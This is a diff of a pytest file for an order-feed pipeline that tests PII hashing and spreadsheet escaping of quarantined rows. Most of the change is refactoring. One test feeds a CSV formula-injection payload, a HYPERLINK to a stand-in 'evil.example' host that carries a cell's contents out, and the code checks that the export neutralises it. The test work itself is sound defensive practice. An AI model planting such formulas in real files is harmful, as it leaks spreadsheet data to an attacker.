@@ -26,12 +26,12 @@ import pytest
 
 from crossdock.settings import DEMO_CONFIGS, DEMO_PII_SALT, PII_SALT_VARIABLE, Settings, pii_salt_warning
 from crossdock.spreadsheet import escape_cell, spreadsheet_safe, unescape_cell
+from feed_files import ORDERS_HEADER, conn, write  # noqa: F401 (conn is a pytest fixture)
 from feeds.ingest import ingest_feed
 from feeds.mapping import MappingError, load_mapping, shipped_mapping
 from feeds.quarantine import export_quarantine, fix_file_name, open_quarantine
 from feeds.row_checks import keyed_hash, unescaped, use_pii_key
 
-HEADER = "order_id,line_id,ordered_at,channel,customer_id,sku,quantity,unit_price,currency,ship_to_country,fulfilment_node\n"
 SHOPIFY_EXPORT = Path(__file__).parent / "fixtures" / "mapping" / "shopify_orders_export.csv"
 PSEUDONYM = re.compile(r"^sha256:[0-9a-f]{64}$")
 # what the pos sale of the Shopify fixture (quarantined: channel pos) says about Eve
@@ -40,18 +40,6 @@ EVE = ("Eve Jansen", "Prinsengracht 1", "1015 DK", "eve@example.nl")
 
 def hmac_hex(key: str, value: str) -> str:
     return hmac.new(key.encode("utf-8"), value.encode("utf-8"), hashlib.sha256).hexdigest()
-
-
-def write(path: Path, text: str) -> Path:
-    path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_text(text, encoding="utf-8")
-    return path
-
-
-@pytest.fixture()
-def conn(tmp_path: Path):
-    with duckdb.connect(str(tmp_path / "w.duckdb")) as c:
-        yield c
 
 
 def places_holding(conn: duckdb.DuckDBPyConnection, needle: str) -> list[str]:
@@ -98,7 +86,7 @@ def test_without_the_key_the_50_id_attack_finds_no_customer(tmp_path, conn):
     key = f"merchant-secret-{uuid.uuid4().hex}"
     ids = [f"customer{i:03d}@example.com" for i in range(50)]
     rows = "".join(f"A{i},1,2025-01-03T10:00:00Z,web,{c},S,1,1,EUR,DE,N\n" for i, c in enumerate(ids))
-    write(tmp_path / "landing/orders/orders_2025-01.csv", HEADER + rows)
+    write(tmp_path / "landing/orders/orders_2025-01.csv", ORDERS_HEADER + rows)
     ingest_feed(conn, tmp_path / "landing", "orders", key)
     stored = {k for (k,) in conn.execute("select customer_key from raw.orders").fetchall()}
     assert len(stored) == 50
@@ -201,7 +189,7 @@ def test_the_quarantine_export_is_escaped_and_a_fixed_file_round_trips_negative_
     formula = '=HYPERLINK("http://evil.example/?"&A1,"fix me")'
     write(
         tmp_path / "landing/orders/orders_2025-01-03.csv",
-        HEADER
+        ORDERS_HEADER
         + f'A1,1,2025-01-03T10:00:00Z,web,C1,"{formula.replace(chr(34), chr(34) * 2)}",1,1,EUR,Atlantis,N\n'
         + "A2,1,2025-01-03T10:00:00Z,web,C1,-ABC,-2,1,EUR,Atlantis,N\n",  # a return of SKU "-ABC"
     )
